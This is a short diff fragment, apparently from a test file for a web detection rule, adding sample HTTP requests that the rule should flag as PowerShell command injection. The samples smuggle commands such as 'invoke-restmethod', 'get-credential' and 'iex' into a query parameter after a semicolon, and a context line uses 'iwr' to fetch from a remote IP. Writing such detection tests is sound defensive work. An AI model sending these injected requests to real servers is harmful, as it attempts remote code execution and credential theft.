@@ -78,6 +78,9 @@ export default defineRule({
     get-content+c:/a set-executionpolicy+bypass`,
     ),
     'GET /a?x=iwr+http://203.0.113.9/a HTTP/1.1',
+    ...each('GET /a?x=;invoke-{}+-a HTTP/1.1', 'wmimethod cimmethod restmethod item'),
+    ...each('GET /a?x=;get-{}+c:/a HTTP/1.1', 'childitem process wmiobject credential'),
+    'GET /a?x=;iex+$x) HTTP/1.1',
   ],
   misses: [
     {
